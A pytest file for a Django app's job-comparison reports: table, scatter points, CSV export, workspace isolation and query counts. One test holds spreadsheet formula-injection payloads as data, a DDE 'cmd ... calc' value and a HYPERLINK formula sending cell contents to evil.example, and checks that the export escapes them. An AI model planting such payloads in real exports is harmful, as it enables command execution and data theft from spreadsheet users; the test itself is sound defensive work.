"""Comparing jobs or a model line's versions: table, cost-vs-accuracy points and CSV, paginated and with
a constant number of queries however many jobs there are."""

import csv
import io
import json
import re

import pytest

from tests.webapp.factories import EVALUATION, bulk_finished_jobs, csrf_client, make_finished_job, make_version_for_job
from webapp.accounts.models import Workspace
from webapp.jobs.models import Job

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def cost_rate(settings):
    settings.COST_PER_WORKER_HOUR = 2.0
    settings.COST_CURRENCY = "EUR"


def _points(response) -> list[dict]:
    return json.loads(re.search(r'id="report-scatter" type="application/json">(.*?)</script>',
                                response.content.decode(), re.S).group(1))["points"]


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_selected_jobs_table_points_and_csv(make_user):
    maria = make_user("maria", workspace="Press line", role="manager")
    a = make_finished_job("Press line", name="baseline", method="cmaes", zero_shot=0.6, tuned=0.7, worker_seconds=1800)
    b = make_finished_job("Press line", name="sharp", zero_shot=0.6, tuned=0.9, worker_seconds=3600,
                          evaluation=EVALUATION)
    make_finished_job("Press line", name="not selected")
    client = csrf_client(maria)
    query = f"?job={a.pk}&job={b.pk}"

    page = client.get("/reports/compare/" + query)
    assert page.status_code == 200
    text = page.content.decode()
    assert "2 selected jobs" in text and "not selected" not in text
    assert "+30.0 pts" in text and "2.00 EUR" in text and "1.00 EUR" in text and "30 min" in text
    assert sorted((p["label"], p["cost"], p["tuned"]) for p in _points(page)) == [("baseline", 1.0, 0.7),
                                                                                  ("sharp", 2.0, 0.9)]

    export = client.get("/reports/compare.csv" + query)
    assert export["Content-Type"].startswith("text/csv") and "attachment" in export["Content-Disposition"]
    rows = {r["name"]: r for r in _csv(export)}
    assert set(rows) == {"baseline", "sharp"}
    assert (rows["sharp"]["tuned accuracy"], rows["sharp"]["gain"], rows["sharp"]["cost"]) == ("0.9", "0.3", "2.0")
    assert rows["baseline"]["method"] == "cmaes" and rows["baseline"]["worker seconds"] == "1800.0"


def test_model_line_versions_are_compared_including_uploads(make_user, tmp_path):
    make_user("maria", workspace="Press line", role="manager")
    client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
    v1 = make_version_for_job(make_finished_job("Press line", model_line_name="scratches", tuned=0.8), tmp_path)
    make_version_for_job(make_finished_job("Press line", model_line_name="scratches", tuned=0.85), tmp_path)
    make_finished_job("Press line", model_line_name="other line")
    page = client.get(f"/reports/compare/?line={v1.model_line_id}")
    text = page.content.decode()
    assert "Versions of scratches" in text and "v1 (job" in text and "v2 (job" in text
    assert sorted(p["tuned"] for p in _points(page)) == [0.8, 0.85]
    assert [r["version"] for r in _csv(client.get(f"/reports/compare.csv?line={v1.model_line_id}"))] == ["2", "1"]


def test_other_workspaces_jobs_never_appear_and_their_line_is_404(make_user, tmp_path):
    theirs = make_finished_job("Other site", name="their secret job")
    line = make_version_for_job(theirs, tmp_path).model_line
    make_finished_job("Press line", name="our job")
    client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
    for url in ("/reports/compare/", f"/reports/compare/?job={theirs.pk}", "/reports/compare.csv",
                f"/reports/compare.csv?job={theirs.pk}"):
        body = b"".join(r.streaming_content) if (r := client.get(url)).streaming else r.content
        assert b"their secret job" not in body, url
    assert client.get(f"/reports/compare/?line={line.pk}").status_code == 404
    assert client.get(f"/reports/compare.csv?line={line.pk}").status_code == 404


def test_failed_jobs_are_left_out_unless_selected(make_user):
    client = csrf_client(make_user("victor", workspace="Press line", role="viewer"))
    failed = make_finished_job("Press line", name="broke", status=Job.Status.FAILED, tuned=None, zero_shot=None)
    assert "broke" not in client.get("/reports/compare/").content.decode()
    assert "broke" in client.get(f"/reports/compare/?job={failed.pk}").content.decode()


@pytest.mark.parametrize("count", [10, 300])
def test_page_and_csv_cost_the_same_queries_for_10_or_300_jobs(make_user, count, django_assert_max_num_queries):
    client = csrf_client(make_user("maria", workspace="Press line", role="manager"))
    bulk_finished_jobs(Workspace.objects.get(name="Press line"), count)
    with django_assert_max_num_queries(9):
        page = client.get("/reports/compare/")
    assert page.status_code == 200 and len(_points(page)) == count
    assert page.content.decode().count('name="job" value=') == min(count, 50)  # paginated
    with django_assert_max_num_queries(6):
        assert len(_csv(client.get("/reports/compare.csv"))) == count


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_never_hands_a_spreadsheet_a_formula(make_user, start):
    """A name typed by a user must not run as a formula when a manager opens the export."""
    maria = make_user("maria", workspace=f"{start}cmd|' /C calc'!A0", role="manager")
    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    job = make_finished_job(maria.memberships.get().workspace, name=name, model_line_name=f"{start}line")
    row = _csv(csrf_client(maria).get(f"/reports/compare.csv?job={job.pk}"))[0]
    assert row["name"] == "'" + name
    assert row["workspace"].startswith("'") and row["model line"] == f"'{start}line"
